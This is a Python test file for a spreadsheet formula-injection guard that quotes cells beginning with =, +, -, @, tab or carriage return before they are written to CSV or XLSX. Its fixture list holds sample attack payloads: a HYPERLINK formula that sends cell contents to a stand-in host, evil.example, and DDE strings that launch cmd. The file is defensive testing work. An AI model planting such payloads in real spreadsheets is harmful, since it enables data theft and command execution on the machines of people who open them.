"""The one rule for text a spreadsheet would run as a formula (core/spreadsheets.py), and what it
makes of the cells of a CSV or XLSX file written with it: the formula is text, numbers stay
numbers."""

import csv
import io
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from repairflow.core.spreadsheets import FORMULA_PREFIXES, formula_safe, formula_safe_row

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_every_prefix_of_the_owasp_guidance_is_covered():
    assert {text[0] for text in ATTACKS} == set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("text", ATTACKS)
def test_text_beginning_with_a_formula_prefix_gets_an_apostrophe_once(text):
    assert formula_safe(text) == "'" + text
    assert formula_safe(formula_safe(text)) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "济历市监罚〔2026〕1号",
        "",
        "a=b",
        "电话 +86",
        "'=already quoted",
        "-5",
        "+86",
        "-12.5",
        "-1e3",
        ".5",
        "－全角",
        None,
    ],
)
def test_other_text_plain_numbers_and_none_are_left_as_they_are(value):
    assert formula_safe(value) == value


@pytest.mark.parametrize("value", [-5, -12.5, 0, date(2026, 1, 5), True])
def test_what_is_not_text_is_left_as_it_is(value):
    assert formula_safe(value) is value


@pytest.mark.parametrize("text", ["-", "--", "-x", "+", "=", "@"])
def test_a_lone_prefix_or_one_before_words_is_quoted(text):
    assert formula_safe(text) == "'" + text


def test_a_csv_file_written_with_the_rule_has_no_formula():
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(formula_safe_row(["标题", *ATTACKS, -5, "-5"]))

    written = next(csv.reader(io.StringIO(buffer.getvalue())))

    assert written == ["标题", *("'" + text for text in ATTACKS), "-5", "-5"]
    assert not any(cell.startswith(FORMULA_PREFIXES) for cell in written if cell != "-5")


def test_an_xlsx_file_written_with_the_rule_has_text_cells_and_numbers_stay_numbers():
    workbook = Workbook()
    workbook.active.append(formula_safe_row([*ATTACKS, -5, 3.5]))
    buffer = io.BytesIO()
    workbook.save(buffer)

    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    row = next(sheet.iter_rows())

    # XML keeps a carriage return as a line feed; either way the text begins with the apostrophe
    assert [cell.value for cell in row] == [*("'" + text.replace("\r", "\n") for text in ATTACKS), -5, 3.5]
    assert [cell.data_type for cell in row] == ["s"] * len(ATTACKS) + ["n", "n"]


def test_without_the_rule_openpyxl_would_write_a_formula():
    """What the rule prevents: openpyxl writes text beginning with `=` as a formula."""
    workbook = Workbook()
    workbook.active.append(["=1+1", formula_safe("=1+1")])

    assert [cell.data_type for cell in workbook.active[1]] == ["f", "s"]
